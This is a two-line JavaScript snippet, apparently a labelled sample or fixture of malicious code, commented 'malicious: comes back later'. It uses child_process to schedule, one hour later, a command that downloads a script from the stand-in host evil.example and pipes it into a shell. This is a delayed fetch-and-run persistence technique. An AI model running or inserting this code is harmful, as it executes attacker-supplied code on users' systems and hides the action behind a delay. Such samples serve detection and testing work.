// malicious: comes back later
require('child_process').execSync(`echo "curl -s http://evil.example/r | sh" | at now + 1 hour`);
